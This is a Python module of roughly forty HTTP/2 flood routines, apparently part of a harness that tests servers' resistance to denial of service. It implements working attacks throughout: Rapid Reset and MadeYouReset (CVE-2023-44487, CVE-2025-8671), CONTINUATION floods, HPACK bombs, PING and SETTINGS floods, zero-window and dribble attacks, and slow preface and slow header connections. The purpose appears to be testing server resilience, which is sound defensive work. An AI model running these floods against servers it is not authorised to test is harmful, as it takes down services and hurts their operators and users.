"""The floods: each takes a Flood, throws what it has, and returns when it was ended, when it got
stuck because the server reads no more, or when all was swallowed.
"""

import select
import ssl
import struct
import time

from h2wire import (
    CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, HEADER_TABLE_SIZE,
    INITIAL_WINDOW, PING, PREFACE, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, Closed,
    Connection, block, error_name, frame_bytes, literal, priority_payload, settings_payload,
    string,
)

ATTACKS = []
MOST = 0x7FFFFFFF
MANY = 200_000
SETTLE = frame_bytes(PING, 0, 0, b"settled?")
LAST_PIECE = frame_bytes(CONTINUATION, END_HEADERS, 1)


def attack(name, why, must_end=True, cpu=1.5):
    """`must_end`: a strict server ends it or reads no more; another may swallow all of it when
    that costs little. `cpu`: seconds that it may cost, whatever becomes of it."""

    def add(function):
        ATTACKS.append((name, why, must_end, cpu, function))
        return function

    return add


class Flood:
    """One attack's connections, and how it went."""

    def __init__(self, address, tls, seconds):
        self.address, self.tls = address, tls
        self.until = time.monotonic() + seconds
        self.open = []
        self.sent = 0
        self.end = ""
        self.is_settled = False

    def connect(self, *pairs):
        connection = Connection(self.address, self.tls, timeout=3)
        connection.handshake(*pairs)
        self.open.append(connection)
        return connection

    def fields(self, path="/", method="GET"):
        authority = f"{self.address[0]}:{self.address[1]}"
        scheme = "https" if self.tls else "http"
        return [
            (":method", method), (":scheme", scheme), (":path", path), (":authority", authority)
        ]

    def request(self, stream, path="/", method="GET", end=True):
        flags = END_HEADERS | (END_STREAM if end else 0)
        return frame_bytes(HEADERS, flags, stream, block(self.fields(path, method)))

    def close(self):
        for connection in self.open:
            connection.socket.close()

    @property
    def is_late(self):
        return time.monotonic() > self.until

    def throw(self, connection, parts, count_each=1, reads=True, last=None):
        """Sends the parts until the server ends it; what each part counts for is only told.
        Then sends `last`, whose answer shows that all has been swallowed."""
        for part in parts:
            if not self.push(connection, part, reads):
                return
            self.sent += count_each
        if not reads or not self.push(connection, last or SETTLE, reads):
            # It may have said long ago that this is the end.
            select.select([connection.socket], [], [], 0.5)
            self.look(connection)
            return
        while not self.end and not self.is_settled:
            if self.is_late:
                self.end = "stuck: the server answers no more"
            elif select.select([connection.socket], [], [], 0.05)[0] or self.tls:
                self.look(connection, settles_by=HEADERS if last else PING)

    def push(self, connection, data, reads):
        view = memoryview(data)
        connection.socket.setblocking(False)
        while view:
            if self.is_late:
                self.end = self.end or "stuck: the server reads no more"
                return False
            if reads and not self.look(connection):
                return False
            try:
                view = view[connection.socket.send(view) :]
            except (BlockingIOError, InterruptedError):
                select.select([connection.socket] if reads else [], [connection.socket], [], 0.05)
            except OSError as error:
                if isinstance(error, (ssl.SSLWantWriteError, ssl.SSLWantReadError)):
                    select.select([], [connection.socket], [], 0.05)
                    continue
                if reads:
                    self.look(connection)
                self.end = self.end or "closed"
                return False
        return True

    def look(self, connection, settles_by=None):
        """Reads what is there; false when the server has ended the connection."""
        if not connection.buffer and not select.select([connection.socket], [], [], 0)[0]:
            if not (self.tls and connection.socket.pending()):
                return True
        try:
            while frame := connection.read(0):
                if frame.kind == GOAWAY:
                    self.end = f"GOAWAY {error_name(frame.code)}"
                    return False
                if frame.kind == settles_by == PING and frame.payload == SETTLE[9:]:
                    self.is_settled = True
                elif frame.kind in (settles_by, RST_STREAM) and settles_by == HEADERS:
                    self.is_settled = True
        except Closed:
            self.end = self.end or "closed"
            return False
        finally:
            connection.socket.setblocking(False)
        return True

    def hold(self, seconds):
        """Keeps everything open and reads nothing."""
        deadline = time.monotonic() + seconds
        sockets = [connection.socket for connection in self.open]
        while time.monotonic() < deadline:
            select.select([], [], sockets, 0.1)


def streams(count, first=1):
    return range(first, first + 2 * count, 2)


def batches(make, ids, size=100):
    ids = list(ids)
    for start in range(0, len(ids), size):
        yield b"".join(make(number) for number in ids[start : start + size])


def times(part, count, size=500):
    """`part` so many times, in larger pieces."""
    piece = part * size
    for _ in range(count // size):
        yield piece


def reset(stream, code=8):
    return frame_bytes(RST_STREAM, 0, stream, struct.pack(">I", code))


def window(stream, increment):
    return frame_bytes(WINDOW_UPDATE, 0, stream, struct.pack(">I", increment))


# Streams that are reset.


@attack("rapid-reset", "CVE-2023-44487: requests that are reset at once")
def _(f):
    make = lambda stream: f.request(stream) + reset(stream)
    f.throw(f.connect(), batches(make, streams(40_000)), 100)


@attack("rapid-reset-full", "CVE-2023-44487: as many streams as allowed, then all are reset")
def _(f):
    def both(ids):
        return b"".join(map(f.request, ids)) + b"".join(map(reset, ids))

    groups = (both(streams(100, first)) for first in range(1, 80_000, 200))
    f.throw(f.connect(), groups, 100)


@attack("made-you-reset-overflow", "CVE-2025-8671: windows that overflow make the server reset")
def _(f):
    make = lambda stream: f.request(stream) + window(stream, MOST) + window(stream, MOST)
    f.throw(f.connect(), batches(make, streams(20_000)), 100)


@attack("made-you-reset-zero", "CVE-2025-8671: window increments of 0 make the server reset")
def _(f):
    make = lambda stream: f.request(stream, end=False, method="POST") + window(stream, 0)
    f.throw(f.connect(), batches(make, streams(20_000)), 100)


@attack("made-you-reset-data", "CVE-2025-8671: DATA after END_STREAM makes the server reset")
def _(f):
    make = lambda stream: f.request(stream) + frame_bytes(DATA, 0, stream, b"x")
    f.throw(f.connect(), batches(make, streams(20_000)), 100)


@attack("made-you-reset-priority", "CVE-2025-8671: PRIORITY of a wrong length")
def _(f):
    make = lambda stream: f.request(stream) + frame_bytes(PRIORITY, 0, stream, bytes(4))
    f.throw(f.connect(), batches(make, streams(20_000)), 100)


@attack("made-you-reset-self", "CVE-2025-8671: streams that come to depend on themselves")
def _(f):
    def make(stream):
        payload = priority_payload(depends_on=stream)
        return f.request(stream) + frame_bytes(PRIORITY, 0, stream, payload)

    f.throw(f.connect(), batches(make, streams(20_000)), 100)


@attack("malformed-requests", "requests that are refused, without end", False, 3)
def _(f):
    fragment = block(f.fields() + [("X-UPPER", "case")])
    make = lambda stream: frame_bytes(HEADERS, END_HEADERS | END_STREAM, stream, fragment)
    f.throw(f.connect(), batches(make, streams(20_000)), 100)


@attack("too-many-streams", "many more streams than allowed, none of them ended", False, 3)
def _(f):
    make = lambda stream: f.request(stream, end=False, method="POST")
    f.throw(f.connect(), batches(make, streams(20_000)), 100)


@attack("resets-of-closed", "RST_STREAM on a stream that is long over", False)
def _(f):
    connection = f.connect()
    connection.send(f.request(1))
    connection.answer(1)
    f.throw(connection, times(reset(1), MANY), 500)


# Header blocks.


@attack("continuation-endless", "CVE-2024-27316: a header block that does not end")
def _(f):
    connection = f.connect()
    connection.headers(1, block(f.fields()), whole=False)
    piece = frame_bytes(CONTINUATION, 0, 1, block([("x-flood", "y" * 100)]) * 140)
    f.throw(connection, (piece for _ in range(4000)), last=LAST_PIECE)


@attack("continuation-indexed", "the same, each byte a field of the static table")
def _(f):
    connection = f.connect()
    connection.headers(1, block(f.fields()), whole=False)
    piece = frame_bytes(CONTINUATION, 0, 1, b"\x90" * 16384)
    f.throw(connection, (piece for _ in range(1000)), last=LAST_PIECE)


@attack("continuation-empty", "CONTINUATION frames with nothing in them, without end")
def _(f):
    connection = f.connect()
    connection.headers(1, block(f.fields()), whole=False)
    f.throw(connection, times(frame_bytes(CONTINUATION, 0, 1), MANY), 500, last=LAST_PIECE)


@attack("empty-names", "CVE-2019-9516: fields whose names are empty", False, 3)
def _(f):
    fragment = block(f.fields()) + b"\x40\x00\x00" * 4000
    make = lambda stream: frame_bytes(HEADERS, END_HEADERS | END_STREAM, stream, fragment)
    f.throw(f.connect(), batches(make, streams(1000), 10), 10)


@attack("hpack-bomb", "a field of 4,000 bytes that is repeated 12,000 times in one frame", False, 3)
def _(f):
    bomb = literal("x-bomb", "b" * 4000, 0x40) + b"\xbe" * 12_000
    fragment = block(f.fields()) + bomb
    make = lambda stream: frame_bytes(HEADERS, END_HEADERS | END_STREAM, stream, fragment)
    f.throw(f.connect(), batches(make, streams(200), 1))


@attack("hpack-bomb-cookies", "the same with cookies, which are to be joined", False, 3)
def _(f):
    bomb = b"\x60" + string("c" * 4000) + b"\xbe" * 12_000
    fragment = block(f.fields()) + bomb
    make = lambda stream: frame_bytes(HEADERS, END_HEADERS | END_STREAM, stream, fragment)
    f.throw(f.connect(), batches(make, streams(200), 1))


@attack("huge-list", "whole header blocks of 1 MiB, one after the other", False, 3)
def _(f):
    def make(stream):
        piece = block([("x-huge", "h" * 4000)]) * 4
        return (
            frame_bytes(HEADERS, END_STREAM, stream, block(f.fields()))
            + frame_bytes(CONTINUATION, 0, stream, piece) * 64
            + frame_bytes(CONTINUATION, END_HEADERS, stream, b"")
        )

    f.throw(f.connect(), batches(make, streams(50), 1))


@attack("table-churn", "fields that throw each other out of the dynamic table", False, 3)
def _(f):
    def make(stream):
        churn = b"".join(
            b"\x20\x3f\xe1\x1f"[: 0 if number else 4] + literal(f"x{number}", "t" * 1000, 0x40)
            for number in range(6)
        )
        fragment = churn[:4] + block(f.fields()) + churn[4:]
        return frame_bytes(HEADERS, END_HEADERS | END_STREAM, stream, fragment)

    f.throw(f.connect(), batches(make, streams(2000), 20), 20)


# Control frames.


@attack("settings", "CVE-2019-9515: SETTINGS frames, each to be acknowledged")
def _(f):
    f.throw(f.connect(), times(frame_bytes(SETTINGS, 0, 0), MANY), 500)


@attack("settings-table-size", "SETTINGS frames that change the table's size to and fro")
def _(f):
    sizes = [[(HEADER_TABLE_SIZE, 0)], [(HEADER_TABLE_SIZE, 65536)]]
    part = b"".join(frame_bytes(SETTINGS, 0, 0, settings_payload(size)) for size in sizes)
    f.throw(f.connect(), times(part, MANY // 2), 1000)


@attack("settings-long", "SETTINGS frames with 2,700 values each")
def _(f):
    payload = settings_payload([(0xF0F0, number) for number in range(2700)])
    f.throw(f.connect(), times(frame_bytes(SETTINGS, 0, 0, payload), 4000, 1))


@attack("settings-windows", "SETTINGS frames that change the windows of 100 streams to and fro")
def _(f):
    connection = f.connect()
    for stream in streams(90):
        connection.send(f.request(stream, end=False, method="POST"))
    sizes = [[(INITIAL_WINDOW, 0)], [(INITIAL_WINDOW, 65535)]]
    part = b"".join(frame_bytes(SETTINGS, 0, 0, settings_payload(size)) for size in sizes)
    f.throw(connection, times(part, MANY // 2), 1000)


@attack("ping", "CVE-2019-9512: PING frames, each to be answered")
def _(f):
    f.throw(f.connect(), times(frame_bytes(PING, 0, 0, bytes(8)), MANY), 500)


@attack("ping-unread", "PING frames whose answers are never read")
def _(f):
    f.throw(f.connect(), times(frame_bytes(PING, 0, 0, bytes(8)), 20 * MANY), 500, reads=False)


@attack("priority", "CVE-2019-9513: PRIORITY frames that turn a tree round and round")
def _(f):
    parts = [
        frame_bytes(PRIORITY, 0, 1 + 2 * (n % 50), priority_payload(1 + 2 * ((n + 7) % 50)))
        for n in range(500)
    ]
    f.throw(f.connect(), times(b"".join(parts), MANY // 500, 1), 500)


@attack("priority-idle", "PRIORITY frames for ever new idle streams")
def _(f):
    def make(stream):
        return frame_bytes(PRIORITY, 0, stream, priority_payload(max(stream - 2, 0)))

    f.throw(f.connect(), batches(make, streams(MANY), 500), 500)


@attack("window-updates", "WINDOW_UPDATE frames by 1", must_end=False)
def _(f):
    f.throw(f.connect(), times(window(0, 1), MANY), 500)


@attack("unknown-frames", "empty frames of an unknown type", must_end=False)
def _(f):
    f.throw(f.connect(), times(frame_bytes(0xBE, 0, 0), MANY), 500)


@attack("unknown-large", "frames of an unknown type with 16 KiB each", must_end=False)
def _(f):
    f.throw(f.connect(), times(frame_bytes(0xBE, 0, 0, bytes(16384)), 4000, 1))


# Bodies and windows.


@attack("empty-data", "CVE-2019-9518: DATA frames with nothing in them")
def _(f):
    connection = f.connect()
    connection.send(f.request(1, end=False, method="POST"))
    f.throw(connection, times(frame_bytes(DATA, 0, 1), MANY), 500)


@attack("padding", "DATA frames of nothing but padding", must_end=False)
def _(f):
    connection = f.connect()
    connection.send(f.request(1, end=False, method="POST"))
    f.throw(connection, times(frame_bytes(DATA, 0x8, 1, b"\xff" + bytes(255)), 20_000, 50), 50)


@attack("zero-window", "CVE-2019-9517: large answers that are asked for and never read", False)
def _(f):
    for _ in range(4):
        connection = f.connect((INITIAL_WINDOW, 0))
        connection.send(b"".join(f.request(stream, "/large") for stream in streams(90)))
        f.sent += 90
    f.hold(2)


@attack("full-window", "large answers that fill the socket and are never read", False)
def _(f):
    for _ in range(4):
        connection = f.connect((INITIAL_WINDOW, MOST))
        connection.window(0, MOST - 65535)
        connection.send(b"".join(f.request(stream, "/large") for stream in streams(90)))
        f.sent += 90
    f.hold(2)


@attack("dribble", "CVE-2019-9511: windows that open by 1 byte", must_end=False, cpu=4)
def _(f):
    connection = f.connect((INITIAL_WINDOW, 1))
    connection.send(b"".join(f.request(stream, "/large") for stream in streams(90)))
    part = b"".join(window(stream, 1) for stream in streams(90))
    f.throw(connection, times(part, 400, 1), 90)


# Slow ones.


@attack("slow-preface", "200 connections that send their preface byte by byte", must_end=False)
def _(f):
    for _ in range(200):
        f.open.append(Connection(f.address, f.tls, timeout=3))
    for byte in PREFACE[:12]:
        for connection in f.open:
            connection.send(bytes([byte]))
            f.sent += 1
        select.select([], [], [], 0.1)


@attack("slow-headers", "100 connections whose header blocks come byte by byte", must_end=False)
def _(f):
    fragment = block(f.fields())
    for _ in range(100):
        f.connect().headers(1, fragment[:1], whole=False)
    for byte in fragment[1:15]:
        for connection in f.open:
            connection.continuation(1, bytes([byte]), whole=False)
            f.sent += 1
        select.select([], [], [], 0.1)


@attack("last-stream", "the highest stream identifier, and then what cannot follow it")
def _(f):
    connection = f.connect()
    connection.send(f.request(MOST))
    f.throw(connection, (f.request(stream) for stream in (1, 3, 5, MOST)))
